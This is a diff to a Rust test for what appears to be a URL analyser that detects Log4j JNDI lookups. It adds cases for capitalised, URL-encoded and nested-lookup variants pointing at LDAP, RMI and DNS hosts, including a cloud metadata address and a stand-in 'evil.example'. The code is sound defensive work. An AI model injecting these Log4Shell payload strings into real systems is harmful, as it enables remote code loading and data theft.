@@ -229,9 +229,34 @@ fn a_log4j_lookup_leads_to_its_directory() {
         .find(|w| w.code == WarningCode::LookalikeDomain)
         .expect("a look-alike directory");
     assert_eq!(imitation.spans, [Span::new(39, 40)]);
-    // Decoded, and spelled by nested lookups: the whole lookup marked.
+    // In capitals, the name's bytes marked all the same.
+    let (a, _) = lookup("https://example.com/?q=${JNDI:ldap://paypa1.com/}");
+    let imitation = a
+        .warnings
+        .iter()
+        .find(|w| w.code == WarningCode::LookalikeDomain)
+        .expect("a look-alike directory");
+    assert_eq!(imitation.spans, [Span::new(42, 43)]);
+    // Decoded, the whole component marked; and spelled by nested lookups,
+    // the whole lookup.
     let (_, d) = lookup("https://example.com/?q=%24%7Bjndi%3Armi%3A%2F%2F10.0.0.5%2Fa%7D");
-    assert_eq!(d.expect("decoded").target, "rmi://10.0.0.5/a");
+    let d = d.expect("decoded");
+    assert_eq!(d.target, "rmi://10.0.0.5/a");
+    assert_eq!(
+        (d.span, d.via.as_str()),
+        (Span::new(23, 63), "query value 'q' → Log4j JNDI lookup")
+    );
+    // A lookup as written whose name holds an escape is one lookup, not
+    // a second one decoded.
+    let (a, _) = lookup("https://example.com/?q=${jndi:ldap://127.0.0.1:1389/a/aWQ%3D}");
+    assert_eq!(a.destinations.len(), 2, "{:?}", a.destinations);
+    let count = |code| a.warnings.iter().filter(|w| w.code == code).count();
+    assert_eq!(count(WarningCode::JndiLookup), 1);
+    assert_eq!(count(WarningCode::InternalDestination), 1);
+    // What the directory's name carries in turn is no redirect either.
+    let (a, _) = lookup("https://example.com/?q=${jndi:ldap://x.example/?u=https://evil.example/}");
+    assert_eq!(a.destinations.len(), 3);
+    assert!(a.destinations.iter().skip(1).all(|d| d.in_lookup));
     let (a, d) = lookup("https://example.com/?q=${${lower:j}ndi:ldap://169.254.169.254/a}");
     let d = d.expect("spelled by nested lookups");
     assert_eq!(d.span, Span::new(23, 64));
@@ -245,4 +270,5 @@ fn a_log4j_lookup_leads_to_its_directory() {
     let (a, _) =
         lookup("https://example.com/?a=${jndi:dns://x.example/}&b=${jndi:dns://x.example/}");
     assert_eq!(a.destinations.len(), 2);
+    assert_eq!(a.destinations[1].span, Span::new(23, 47));
 }
